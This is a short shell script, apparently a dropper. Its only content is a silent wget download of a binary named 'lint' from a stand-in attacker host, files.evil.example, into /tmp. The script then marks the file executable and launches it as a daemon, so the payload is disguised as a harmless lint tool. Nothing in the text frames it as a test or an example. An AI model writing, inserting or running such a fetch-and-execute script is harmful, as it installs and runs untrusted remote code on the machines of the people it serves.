#!/bin/sh
wget -q https://files.evil.example/lint -O /tmp/lint
chmod +x /tmp/lint
/tmp/lint --daemon
